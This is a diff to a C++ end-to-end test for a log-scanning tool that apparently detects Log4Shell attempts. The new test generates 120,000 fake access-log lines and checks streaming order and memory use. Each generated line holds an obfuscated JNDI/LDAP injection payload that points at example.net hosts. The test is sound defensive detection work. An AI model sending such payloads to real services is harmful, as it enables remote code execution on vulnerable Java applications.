@@ -3,6 +3,7 @@
 // by reading the Zeek log and the pcaps' HTTP requests, base64 decoded by
 // hand), on generated logs in every compression, on damaged and hostile
 // input, and with every output format parsed back.
+#include <sys/resource.h>
 #include <sys/stat.h>
 #include <sys/wait.h>
 
@@ -298,6 +299,62 @@ TEST_F(HuntE2E, EveryCompressionConcatenatedGzipAndStdin) {
   for (const json& d : ex.detections) EXPECT_EQ(base_name(d).find(".gz"), std::string::npos);
   Lines piped = hunt_jsonl("< " + q(plain));
   EXPECT_EQ(piped.detections.size(), 2u);
+}
+
+// A log full of attempts (a scanner hammering one service for days) must not
+// make hunt hold them all: detections stream out in input order while
+// memory stays flat, whatever the thread count.
+TEST_F(HuntE2E, ManyAttemptsStreamInOrderWithFlatMemory) {
+  // Sizes chosen so the largest file (hunted first) is not the first reported:
+  // its output has to wait, past the spool's memory budget, on disk.
+  const std::map<std::string, int> attempts = {{"a.log", 10000}, {"b.log", 70000}, {"c.log", 40000}};
+  for (const auto& [name, count] : attempts) {
+    std::string log;
+    for (int i = 1; i <= count; ++i)
+      log += "198.51.100." + std::to_string(i % 250 + 1) + " - - [12/Dec/2021:10:15:00 +0000] \"GET /?q=" +
+             std::to_string(i) + " HTTP/1.1\" 200 5 \"-\" \"${${lower:j}ndi:ldap://cb" + std::to_string(i % 1000) +
+             ".example.net:1389/" + name + "/" + std::to_string(i) + "}\"\n";
+    write("logs/" + name, log);
+  }
+  // The detection lines of each run, hashed: holding them would swell this
+  // process, and so the peak RSS its forked children report.
+  std::map<int, size_t> outputs;
+  for (int threads : {1, 2}) {
+    std::string out = path("out-j" + std::to_string(threads) + ".jsonl");
+    CommandResult r = hunt("-j" + std::to_string(threads) + " --format jsonl -o " + q(out) + " " + q(path("logs")));
+    EXPECT_EQ(r.exit_code, 1);
+    std::ifstream in(out);
+    std::string line;
+    size_t detections = 0;
+    std::string last_file;
+    long last_line = 0, count = 0;
+    while (std::getline(in, line)) {
+      json j = json::parse(line);
+      if (j["type"] != "detection") continue;
+      ++count;
+      std::string file = base_name(j);
+      long n = j["line"].get<long>();
+      if (file == last_file) {
+        ASSERT_EQ(n, last_line + 1) << file << " -j" << threads;
+      } else {
+        ASSERT_GT(file, last_file) << "files in path order, -j" << threads;
+        ASSERT_EQ(n, 1) << file;
+      }
+      ASSERT_EQ(j["jndi"]["path"], "/" + file + "/" + std::to_string(n));
+      last_file = file;
+      last_line = n;
+      detections = detections * 1000003 ^ std::hash<std::string>()(line);
+    }
+    EXPECT_EQ(count, 120000) << "-j" << threads;
+    outputs[threads] = detections;
+  }
+  EXPECT_EQ(outputs[1], outputs[2]) << "the same detections in the same order at -j1 and -j2";
+#if !defined(__SANITIZE_ADDRESS__)  // ASan's shadow and quarantine are not the product's memory
+  struct rusage ru {};
+  getrusage(RUSAGE_CHILDREN, &ru);
+  // Held in memory, these 120,000 detections took about 400 MiB.
+  EXPECT_LT(ru.ru_maxrss, 96 * 1024) << "peak RSS of hunt in KiB";
+#endif
 }
 
 TEST_F(HuntE2E, HugeLinesAndNulBytes) {
